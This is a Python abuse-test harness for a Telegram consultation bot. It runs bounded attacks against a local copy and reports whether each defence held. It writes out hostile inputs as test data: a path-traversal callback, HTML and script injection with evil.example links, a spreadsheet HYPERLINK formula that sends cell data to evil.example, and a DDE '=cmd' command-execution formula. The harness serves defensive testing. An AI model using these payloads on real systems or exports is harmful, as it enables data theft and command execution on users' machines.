"""The abuse run: attacks on the real `haveyoursay run`, each reported as "tried N / held N".

    python bench/abuse.py [--only NAME ...] [--list]

Everything runs on this machine, on 127.0.0.1: the fake Bot API (tests/fake_telegram) and
the bot started as `haveyoursay run` from this checkout (tests/e2e_support.BotProcess), in a
fresh temporary folder per attack. Every attack is bounded (a fixed number of tries, every
wait with a timeout), and each is a small function with a stated "held" condition: a try
counts as held only when that condition was observed. The run reports what it sees on the
code it runs against; it fixes nothing. Exit status 0 when every try held, 1 otherwise.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
# `haveyoursay` from this checkout's virtualenv when there is one.
if (ROOT / ".venv" / "bin").is_dir():
    os.environ["PATH"] = f"{ROOT / '.venv' / 'bin'}{os.pathsep}{os.environ.get('PATH', '')}"

from tests.community import join, open_for_years  # noqa: E402
from tests.e2e_support import (  # noqa: E402
    DATA,
    EXAMPLES,
    BotProcess,
    Resident,
    haveyoursay,
    post,
    raw_post,
)
from tests.fake_telegram import BotMessage, FakeTelegram, FakeUser, RateLimits  # noqa: E402

CONSULTATION = "gp-opening-hours"
ADMIN_ID = 990_000_001
SECRET = "abuse-run-secret_0123456789"
MB = 1024 * 1024


@dataclass
class Outcome:
    tried: int = 0
    held: int = 0
    notes: list[str] = field(default_factory=list)

    def check(self, held: bool, failure: str | None = None) -> None:
        """One try: held or not (with what was seen when it was not)."""
        self.tried += 1
        if held:
            self.held += 1
        elif failure and len(self.notes) < 4:
            self.notes.append(failure)


# ------------------------------------------------------------------------------------------
# The stage: a fake Bot API, the bot, one open consultation, an officers' group, an admin.
# ------------------------------------------------------------------------------------------
@dataclass
class Stage:
    fake: FakeTelegram
    bot: BotProcess
    team: int
    admin: Resident
    workdir: Path

    def officer(self, name: str = "Priya", **names: Any) -> FakeUser:
        """A Telegram user made an officer (as /addofficer does), able to write in the group."""
        user = self.fake.add_user(name, language_code="en", **names)
        self.bot.query(
            "INSERT INTO officers(user_id, role, added_by, added_at) VALUES (?, 'officer', ?, '2026-01-01T00:00:00Z')",
            user.id,
            ADMIN_ID,
        )
        return user


@contextmanager
def stage(
    workdir: Path, *, start: bool = True, rate_limits: RateLimits | None = None, env: dict[str, str] | None = None
) -> Iterator[Stage]:
    workdir.mkdir(parents=True, exist_ok=True)
    fake = FakeTelegram(rate_limits=rate_limits).start()
    try:
        team = fake.add_group("Engagement team")
        deployment = workdir / "deployment.yaml"
        deployment.write_text(
            (DATA / "deployment.yaml").read_text(encoding="utf-8") + f"officers_chat_id: {team}\n", encoding="utf-8"
        )
        settings = {"HAVEYOURSAY_CONFIG": str(deployment), "HAVEYOURSAY_ADMINS": str(ADMIN_ID), **(env or {})}
        bot = BotProcess(fake, workdir, **settings)
        bot.import_consultations(open_for_years(EXAMPLES / f"{CONSULTATION}.yaml", workdir))
        admin = Resident(fake, fake.add_user("Olu", language_code="en", user_id=ADMIN_ID))
        try:
            if start:
                bot.start()
            yield Stage(fake, bot, team, admin, workdir)
        finally:
            bot.stop()
    finally:
        fake.stop()


def settle(fake: FakeTelegram, timeout: float = 30.0) -> None:
    fake.wait_until_idle(timeout=timeout, quiet=0.15)


def to_question_four(resident: Resident) -> BotMessage:
    """From the consultations list to the typed question (rating 1 asks what makes it hard)."""
    listing = resident.say("/consultations", expect="Open consultations")
    resident.tap("GP opening hours", on=listing, expect="Take part")
    resident.tap("Take part", expect="Question 1 of 7")
    resident.tap("In the last week", expect="Question 2 of 7")
    resident.tap("⬜ Before 8am", expect="✅ Before 8am")
    resident.tap("Done", expect="Question 3 of 7")
    return resident.tap("1", expect="Question 4 of 7")


def complete_survey(resident: Resident, typed: str) -> bool:
    """Take part, typing `typed` as the free-text answer; True if the bot took it as typed."""
    to_question_four(resident)
    taken = "Question 5 of 7" in resident.say(typed).text
    if not taken:  # refused at the door: answer plainly so the survey can go on
        resident.say("It is hard to get through", expect="Question 5 of 7")
    resident.tap("Yes", expect="Question 6 of 7")
    resident.say("15", expect="Question 7 of 7")
    resident.say("Sheerness", expect="Please check your answers")
    resident.tap("Submit", expect="We have received your answers")
    return taken


def fingerprint(bot: BotProcess) -> str:
    """What a forged tap must not change: responses, feedback, threads, roles, audit, broadcasts."""
    parts = []
    for table in (
        "responses",
        "outcome_feedback",
        "contact_threads",
        "officers",
        "officer_invites",
        "audit_log",
        "broadcasts",
        "deliveries",
        "outcomes",
    ):
        parts.append(repr(bot.query(f"SELECT * FROM {table}")))
    return "\n".join(parts)


def containing(fragment: str) -> Callable[[BotMessage], bool]:
    return lambda message: fragment in message.text


def tracebacks(bot: BotProcess) -> int:
    return bot.log().count("Traceback")


def files_sent(fake: FakeTelegram, chat_id: int) -> int:
    return sum(1 for m in fake.messages(chat_id) if m.document or m.photo)


# ------------------------------------------------------------------------------------------
# Attacks. Each takes a fresh folder and returns tried / held.
# ------------------------------------------------------------------------------------------
def forged_buttons_random(workdir: Path) -> Outcome:
    """Random and crafted callback data from a resident at question 1.
    Held: the answer to the tap changes no response, feedback, thread, role, audit entry or
    broadcast, sends no file, and logs no traceback."""
    outcome = Outcome()
    rng = random.Random(12)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789:-_"
    crafted = [
        f"take:{CONSULTATION}x",
        "card:../../etc/passwd",
        f"s:{'A' * 12}:answer:week",
        "s::submit",
        f"fb:{CONSULTATION}:yes",
        "fb:no-such-consultation:no",
        "rd:no-such-consultation",
        f"r:csv:{CONSULTATION}",
        f"r:xlsx:{CONSULTATION}",
        f"r:show:{CONSULTATION}",
        "b:send:1",
        "b:go",
        "oc:publish:x",
        "ct:about:no-such-consultation",
        "ay:withdraw:x:y",
        "lang:zz",
        "w:zz:-",
        "oa:no-such-area",
        "ot:" + "x" * 61,
        "é" * 32,
    ]
    forged = crafted + ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 64))) for _ in range(44)]
    with stage(workdir) as s:
        amina = join(s.fake, "Amina", "en-GB")
        question = to_question_four(amina)
        for data in forged:
            before, files, errors = fingerprint(s.bot), files_sent(s.fake, amina.chat_id), tracebacks(s.bot)
            s.fake.press_stale_button(amina.user, question, data)
            settle(s.fake)
            changed = fingerprint(s.bot) != before
            sent_file = files_sent(s.fake, amina.chat_id) != files
            crashed = tracebacks(s.bot) != errors
            outcome.check(not (changed or sent_file or crashed), f"{data!r}: changed={changed} file={sent_file}")
    return outcome


def forged_buttons_replayed(workdir: Path) -> Outcome:
    """Every button Amina was shown, tapped again after she submitted; her survey buttons
    tapped by Ben, who never took part. Held: no response, feedback or thread changes."""
    outcome = Outcome()
    with stage(workdir) as s:
        amina = join(s.fake, "Amina", "en-GB")
        complete_survey(amina, "Nobody answers the phone")
        shown = {data for m in s.fake.messages(amina.chat_id) for row in m.buttons for _, data in row if data}
        ben = join(s.fake, "Ben", "en-GB")
        ben_message = ben.latest_with_buttons()
        last = amina.latest_with_buttons() if any(m.buttons for m in s.fake.messages(amina.chat_id)) else None
        for data in sorted(shown):
            if last is None:
                break
            before = fingerprint(s.bot)
            s.fake.press_stale_button(amina.user, last, data)
            settle(s.fake)
            outcome.check(fingerprint(s.bot) == before, f"Amina replayed {data!r}")
        for data in sorted(d for d in shown if d.startswith("s:")):
            before = fingerprint(s.bot)
            s.fake.press_stale_button(ben.user, ben_message, data)
            settle(s.fake)
            outcome.check(fingerprint(s.bot) == before, f"Ben tapped Amina's {data!r}")
    return outcome


MARKUP = [
    "<b>bold</b>",
    '<a href="http://evil.example/">click</a>',
    "&lt;&amp;&gt;",
    "<script>alert(1)</script>",
    "</i>unbalanced<i>",
    "<tg-spoiler>hidden</tg-spoiler>",
]


def markup_injection(workdir: Path) -> Outcome:
    """HTML typed as a survey answer (shown back to the resident), as a message to the team
    (shown to officers), as an officer's reply (shown to the resident), and in an officer's
    name. Held: the text is shown exactly as typed, and Telegram refused no message."""
    outcome = Outcome()
    with stage(workdir) as s:
        officer = s.officer("<b>Priya</b> & <i>", last_name='<a href="http://evil.example/">x</a>')
        amina = join(s.fake, "Amina", "en-GB")
        to_question_four(amina)
        for payload in MARKUP:
            errors = len(s.fake.errors)
            amina.say(payload, expect="Question 5 of 7")
            back = amina.tap("« Back", expect="Question 4 of 7")
            ok = payload in back.text and len(s.fake.errors) == errors
            outcome.check(ok, f"survey answer {payload!r} shown as {back.text[-60:]!r}")
        for payload in MARKUP:
            errors = len(s.fake.errors)
            amina.say("/contact", expect="Which consultation")
            amina.tap("Something else", expect="Please type your message")
            mark = s.fake.mark(s.team)
            amina.say(f"Question: {payload}", expect="Thank you")
            forwarded = s.fake.wait_for_message(s.team, since=mark, predicate=containing(f"Question: {payload}"))
            outcome.check(len(s.fake.errors) == errors, f"to the team {payload!r}")
            mark = s.fake.mark(amina.chat_id)
            s.fake.send_text(officer, f"Answer: {payload}", chat_id=s.team, reply_to=forwarded)
            try:
                reply = s.fake.wait_for_message(
                    amina.chat_id, since=mark, predicate=lambda m: "Reply from the engagement team" in m.text
                )
                outcome.check(payload in reply.text and len(s.fake.errors) == errors, f"reply {payload!r}")
            except AssertionError:
                outcome.check(False, f"officer's reply {payload!r} never reached the resident")
        settle(s.fake)
        notes = [m.text for m in s.fake.messages(s.team) if "Sent to the resident" in m.text]
        shown_name = any("<b>Priya</b> & <i>" in n for n in notes)
        outcome.check(shown_name, f"officer's name shown as {notes[-1:]!r}")
    return outcome


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
CONTROLS = ["\x00", "\x07", "\x1b", "\x0b"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def export_cells(s: Stage) -> tuple[list[str] | None, list[tuple[Any, str]] | None, list[str]]:
    """`haveyoursay export` as CSV and as Excel: every cell of each (None when that export
    failed), and what a failed export said."""
    csv_path, xlsx_path = s.workdir / "export.csv", s.workdir / "export.xlsx"
    csv_run = s.bot.command("export", CONSULTATION, "--format", "csv", "-o", str(csv_path))
    xlsx_run = s.bot.command("export", CONSULTATION, "--format", "xlsx", "-o", str(xlsx_path))
    failures = [
        f"{kind} export failed: {run.stderr.strip().splitlines()[-1:]!r}"
        for kind, run in (("CSV", csv_run), ("Excel", xlsx_run))
        if run.returncode != 0
    ]
    csv_cells = None
    if csv_run.returncode == 0:
        text = csv_path.read_text(encoding="utf-8")
        csv_cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    xlsx_cells = None
    if xlsx_run.returncode == 0:
        from openpyxl import load_workbook

        sheet = load_workbook(xlsx_path).active
        assert sheet is not None
        xlsx_cells = [(c.value, str(c.data_type)) for row in sheet.iter_rows() for c in row]
    return csv_cells, xlsx_cells, failures


def formula_injection(workdir: Path) -> Outcome:
    """Answers a spreadsheet would read as formulas, then `haveyoursay export` as CSV and
    Excel. Held, per answer and format: the cell does not start with = + - @ tab or CR, and
    no Excel cell is a formula."""
    outcome = Outcome()
    with stage(workdir) as s:
        for n, payload in enumerate(FORMULAS):
            complete_survey(join(s.fake, f"Resident {n}", "en-GB"), payload)
        settle(s.fake)
        csv_cells, xlsx_cells, failures = export_cells(s)
        outcome.notes.extend(failures)
        for payload in FORMULAS:
            core = payload.strip()[1:]
            cells = [c for c in csv_cells or [] if core in c]
            outcome.check(
                bool(cells) and not any(c.startswith(DANGEROUS_START) for c in cells),
                f"CSV {payload!r} -> {cells[:1]!r}",
            )
            found = [(v, t) for v, t in xlsx_cells or [] if isinstance(v, str) and core in v]
            outcome.check(
                bool(found) and not any(t == "f" or v.startswith(DANGEROUS_START) for v, t in found),
                f"Excel {payload!r} -> {found[:1]!r}",
            )
    return outcome


def control_characters(workdir: Path) -> Outcome:
    """Answers holding NUL, BEL, ESC or VT, then both exports. Held, per character: both
    exports succeed, and the answer is either refused at the door or stored whole (nothing
    cut off after the character)."""
    outcome = Outcome()
    with stage(workdir) as s:
        taken = {}
        for n, control in enumerate(CONTROLS):
            taken[control] = complete_survey(join(s.fake, f"Resident {n}", "en-GB"), f"before{control}after")
        settle(s.fake)
        csv_cells, xlsx_cells, failures = export_cells(s)
        outcome.notes.extend(failures)
        answers = s.bot.query("SELECT answers FROM responses WHERE submitted_at IS NOT NULL")
        stored = [str(json.loads(a or "{}").get("why_hard", "")) for (a,) in answers]
        cut = [a for a in stored if a == "before"]
        for control in CONTROLS:
            # Stored as typed, or cleaned at the door (then "beforeafter"): either way, nothing cut off.
            whole = f"before{control}after" in stored or (
                not cut and any(a.startswith("before") and a.endswith("after") and control not in a for a in stored)
            )
            fine = csv_cells is not None and xlsx_cells is not None and (whole or not taken[control])
            outcome.check(fine, f"{control!r}: accepted={taken[control]}, stored whole={whole}")
    return outcome


def flood_from_one_resident(workdir: Path) -> Outcome:
    """100 /start from one resident at once, with Telegram's flood limits on. Held: at most
    about 20 answers (then one "slow down"), no traceback, under 20 KB of log."""
    outcome = Outcome()
    with stage(workdir, rate_limits=RateLimits()) as s:
        user = s.fake.add_user("Mallory", language_code="en")
        log_before = len(s.bot.log())
        for _ in range(100):
            s.fake.send_text(user, "/start")
        settle(s.fake, timeout=90)
        answers = len(s.fake.messages(user.id))
        grown = s.bot.log()[log_before:]
        outcome.check(answers <= 22, f"{answers} answers")
        outcome.check("Traceback" not in grown, f"{grown.count('Traceback')} tracebacks")
        outcome.check(len(grown) < 20_000, f"{len(grown)} bytes of log")
        outcome.notes.append(f"429s drawn: {len(s.fake.rate_limited)}")
    return outcome


def flood_from_a_group(workdir: Path) -> Outcome:
    """300 /start in a group, with Telegram's limits on. Held: at most 5 replies, no 429
    drawn, no traceback, under 20 KB of log."""
    outcome = Outcome()
    with stage(workdir, rate_limits=RateLimits()) as s:
        group = s.fake.add_group("Neighbours")
        people = [s.fake.add_user(f"Neighbour {n}") for n in range(5)]
        log_before = len(s.bot.log())
        for n in range(300):
            s.fake.send_text(people[n % 5], "/start", chat_id=group)
        settle(s.fake, timeout=120)
        replies = len(s.fake.messages(group))
        grown = s.bot.log()[log_before:]
        outcome.check(replies <= 5, f"{replies} replies")
        outcome.check(not s.fake.rate_limited, f"{len(s.fake.rate_limited)} x 429")
        outcome.check("Traceback" not in grown, f"{grown.count('Traceback')} tracebacks")
        outcome.check(len(grown) < 20_000, f"{len(grown)} bytes of log")
    return outcome


def impersonating_the_team(workdir: Path) -> Outcome:
    """Members of the officers' group who are not officers reply to a resident's message.
    Held: nothing reaches the resident."""
    outcome = Outcome()
    with stage(workdir) as s:
        amina = join(s.fake, "Amina", "en-GB")
        amina.say("/contact", expect="Which consultation")
        amina.tap("Something else", expect="Please type your message")
        mark = s.fake.mark(s.team)
        amina.say("Is there parking?", expect="Thank you")
        forwarded = s.fake.wait_for_message(s.team, since=mark, predicate=lambda m: "parking" in m.text)
        for n in range(5):
            stranger = s.fake.add_user(f"Stranger {n}")
            s.fake.send_text(stranger, f"Pay the parking fine at evil.example/{n}", chat_id=s.team, reply_to=forwarded)
            settle(s.fake)
            reached = [m for m in s.fake.messages(amina.chat_id) if "evil.example" in m.text]
            outcome.check(not reached, f"stranger {n}'s reply reached the resident")
    return outcome


def officer_commands_by_a_resident(workdir: Path) -> Outcome:
    """A resident sends every officer command. Held: the unknown-command answer, nothing recorded, no file."""
    outcome = Outcome()
    commands = [
        "/officer",
        "/broadcast",
        "/broadcasts",
        "/officers",
        "/invite",
        "/addofficer 700000001",
        "/removeofficer 990000001",
        "/audit",
        "/results",
        f"/export {CONSULTATION}",
        "/reach",
        "/outcome",
    ]
    with stage(workdir) as s:
        amina = join(s.fake, "Amina", "en-GB")
        for command in commands:
            before, files = fingerprint(s.bot), files_sent(s.fake, amina.chat_id)
            answer = amina.say(command)
            settle(s.fake)
            ok = "don't know that command" in answer.text and fingerprint(s.bot) == before
            outcome.check(ok and files_sent(s.fake, amina.chat_id) == files, f"{command}: {answer.text[:60]!r}")
    return outcome


# -- webhook -------------------------------------------------------------------------------
def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@contextmanager
def webhook_stage(workdir: Path) -> Iterator[tuple[Stage, int]]:
    port = free_port()
    env = {
        "HAVEYOURSAY_WEBHOOK_URL": "https://bot.example.org/telegram",
        "HAVEYOURSAY_WEBHOOK_LISTEN": f"127.0.0.1:{port}",
        "HAVEYOURSAY_WEBHOOK_SECRET": SECRET,
    }
    with stage(workdir, start=False, env=env) as s:
        start_webhook(s, port)
        yield s, port


def start_webhook(s: Stage, port: int) -> None:
    assert s.bot.webhook_port == port
    s.bot.start()


def post_update(port: int, update: dict[str, Any], secret: str | None = SECRET) -> int:
    """The webhook's HTTP status for this update; 0 if nothing answered (the bot is down)."""
    try:
        return post(port, update, secret)
    except OSError:
        return 0


def command_update(update_id: int, user: FakeUser, text: str) -> dict[str, Any]:
    return {
        "update_id": update_id,
        "message": {
            "message_id": update_id,
            "date": int(time.time()),
            "text": text,
            "chat": {"id": user.id, "type": "private", "first_name": user.first_name},
            "from": user.to_api(),
            "entities": [{"type": "bot_command", "offset": 0, "length": len(text.split()[0])}],
        },
    }


def replayed_update_ids(workdir: Path) -> Outcome:
    """Webhook mode: an update posted again at once, an older one after a newer, and one
    after a restart. Held: each is answered once only. (One chat's updates are handled in
    order, so the answer to a fresh update posted after a replay means the replay was dealt with.)"""
    outcome = Outcome()
    with webhook_stage(workdir) as (s, port):
        ada = s.fake.add_user("Ada", language_code="en")
        s.fake.mark_started(ada)
        fresh = iter(range(5010, 5100))  # above every id replayed below, as Telegram's next ones would be

        def replay_then_fresh(update_id: int, text: str) -> None:
            post_update(port, command_update(update_id, ada, text))
            mark = s.fake.mark(ada.id)
            post_update(port, command_update(next(fresh), ada, "/language"))
            s.fake.wait_for_message(ada.id, since=mark, timeout=15)

        def count(text: str) -> int:
            return sum(1 for m in s.fake.messages(ada.id) if m.text == text)

        mark = s.fake.mark(ada.id)
        post_update(port, command_update(5000, ada, "/start"))
        welcome = s.fake.wait_for_message(ada.id, since=mark, timeout=15).text
        replay_then_fresh(5000, "/start")
        outcome.check(count(welcome) == 1, "the same update twice was answered twice")
        mark = s.fake.mark(ada.id)
        helped_id = next(fresh)
        post_update(port, command_update(helped_id, ada, "/help"))
        helped = s.fake.wait_for_message(ada.id, since=mark, timeout=15).text
        replay_then_fresh(5000, "/start")
        outcome.check(count(welcome) == 1, "an older update after a newer one was answered")
        s.bot.stop()
        start_webhook(s, port)
        replay_then_fresh(helped_id, "/help")
        outcome.check(count(helped) == 1, "an update replayed after a restart was answered again")
    return outcome


def peak_memory(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    return 0


def webhook_bodies(workdir: Path) -> Outcome:
    """50 MB POSTs to the webhook: without the secret, with a wrong one, to another path, with
    the secret but too large (announced, and chunked). Held: 403 / 404 / 413 on the headers
    (chunked: cut off within a few MB), and the process's peak memory grows under 10 MB in all."""
    outcome = Outcome()
    with webhook_stage(workdir) as (s, port):
        assert s.bot.process is not None
        pid = s.bot.process.pid
        before = peak_memory(pid)
        for secret in (None, "wrong"):
            status, early, sent = raw_post(port, 50 * MB, secret)
            outcome.check(status == 403 and early, f"secret {secret!r}: {status}, {sent / MB:.0f} MB read first")
        status, early, sent = raw_post(port, 50 * MB, None, path="/elsewhere")
        outcome.check(status == 404 and early, f"another path: {status}, {sent / MB:.0f} MB read first")
        status, early, sent = raw_post(port, 50 * MB, SECRET)
        outcome.check(status == 413 and early, f"50 MB with the secret: {status} after {sent / MB:.0f} MB")
        status, early, sent = raw_post(port, 50 * MB, SECRET, chunked=True)
        outcome.check(status == 413 and sent < 8 * MB, f"chunked: {status} after {sent / MB:.0f} MB")
        grown = peak_memory(pid) - before
        outcome.check(grown < 10 * MB, f"peak memory grew {grown / MB:.0f} MB")
    return outcome


# -- processes -----------------------------------------------------------------------------
def second_instance(workdir: Path) -> Outcome:
    """A second `haveyoursay run` on the same database while the first runs. Held: it refuses
    to start (exits within 20 s, saying why), and the first still answers residents."""
    outcome = Outcome()
    with stage(workdir) as s:
        second = subprocess.Popen(
            [haveyoursay(), "run"], env=s.bot.env, cwd=s.workdir, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
        )
        try:
            output, _ = second.communicate(timeout=20)
            refused = second.returncode != 0
            said = output.decode(errors="replace").strip().splitlines()[-1:] if output else []
        except subprocess.TimeoutExpired:
            second.kill()
            second.communicate()
            refused, said = False, ["still running after 20 s"]
        outcome.check(refused, f"second process: {said!r}")
        amina = Resident(s.fake, s.fake.add_user("Amina", language_code="en"))
        try:
            amina.say("/start", expect="Your privacy")
            answered = True
        except AssertionError:
            answered = False
        outcome.check(answered, "the first process no longer answered")
    return outcome


def bad_token(workdir: Path) -> Outcome:
    """`haveyoursay run` with a token Telegram rejects (401) and with a wrong API path (404).
    Held: the process stops within 30 s and the token appears nowhere in its output."""
    outcome = Outcome()
    with stage(workdir, start=False) as s:
        wrong = "987654321:AAWrongTokenForTheAbuseRun_0123456789"
        for label, env in (
            ("401", {"TELEGRAM_BOT_TOKEN": wrong}),
            ("404", {"TELEGRAM_API_URL": s.fake.base_url + "/no/such/path"}),
        ):
            token = env.get("TELEGRAM_BOT_TOKEN", s.fake.token)
            run = subprocess.Popen(
                [haveyoursay(), "run"],
                env={**s.bot.env, **env},
                cwd=s.workdir,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
            )
            try:
                output, _ = run.communicate(timeout=30)
            except subprocess.TimeoutExpired:
                run.kill()
                output, _ = run.communicate()
            text = output.decode(errors="replace")
            secret_part = token.split(":", 1)[1]
            leaks = text.count(token) + text.count(secret_part)
            outcome.check(leaks == 0, f"{label}: the token appears {leaks} times in the log")
    return outcome


ATTACKS: dict[str, Callable[[Path], Outcome]] = {
    "forged buttons (random)": forged_buttons_random,
    "forged buttons (replayed)": forged_buttons_replayed,
    "markup injection": markup_injection,
    "formula injection in exports": formula_injection,
    "control characters in answers": control_characters,
    "flood from one resident": flood_from_one_resident,
    "flood from a group": flood_from_a_group,
    "non-officers replying as the team": impersonating_the_team,
    "officer commands by a resident": officer_commands_by_a_resident,
    "replayed update ids (webhook)": replayed_update_ids,
    "oversized / unauthenticated webhook": webhook_bodies,
    "second instance on one database": second_instance,
    "bad token": bad_token,
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", nargs="*", default=None, help="run only attacks whose name contains one of these")
    parser.add_argument("--list", action="store_true", help="list the attacks and what 'held' means for each")
    args = parser.parse_args()
    chosen = {
        name: attack
        for name, attack in ATTACKS.items()
        if not args.only or any(word.lower() in name.lower() for word in args.only)
    }
    if args.list:
        for name, attack in chosen.items():
            print(f"{name}:\n    " + " ".join((attack.__doc__ or "").split()))
        return 0
    commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True, text=True)
    print(f"Abuse run, {datetime.now(UTC):%Y-%m-%d %H:%M} UTC, commit {commit.stdout.strip() or '?'}", flush=True)
    all_held = True
    folder = Path(tempfile.mkdtemp(prefix="haveyoursay-abuse-"))
    try:
        for number, (name, attack) in enumerate(chosen.items()):
            began = time.monotonic()
            try:
                outcome = attack(folder / f"{number:02d}")
            except Exception as error:  # an attack that could not run is reported, not hidden
                outcome = Outcome(notes=[f"could not run: {type(error).__name__}: {str(error)[:300]}"])
                traceback.print_exc(limit=3, file=sys.stderr)
            held = outcome.tried > 0 and outcome.held == outcome.tried
            all_held = all_held and held
            verdict = "held" if held else "NOT HELD"
            took = time.monotonic() - began
            counts = f"tried {outcome.tried:>3} / held {outcome.held:>3}"
            print(f"{name:<36} {counts}  {verdict:<8} {took:5.1f}s", flush=True)
            for note in outcome.notes:
                print(f"    {note}", flush=True)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return 0 if all_held else 1


if __name__ == "__main__":
    sys.exit(main())
